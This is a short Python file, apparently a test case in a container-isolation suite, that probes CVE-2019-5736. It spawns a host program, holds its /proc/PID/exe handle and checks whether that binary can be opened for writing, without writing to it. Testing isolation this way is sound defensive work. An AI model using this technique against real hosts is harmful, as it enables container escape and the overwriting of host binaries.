"""Overwrites a program of the host through /proc/PID/exe of a process that runs it (CVE-2019-5736)."""

import os
import signal


def attack(world):
    child = os.posix_spawn("/usr/bin/factor", ["factor"], {}, file_actions=[(os.POSIX_SPAWN_DUP2, os.pipe()[0], 0)])
    try:
        while os.readlink(f"/proc/{child}/exe") != "/usr/bin/factor":
            pass
        held = os.open(f"/proc/{child}/exe", os.O_PATH)
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    # Open for writing is all it takes; nothing is written.
    return os.open(f"/proc/self/fd/{held}", os.O_WRONLY) >= 0
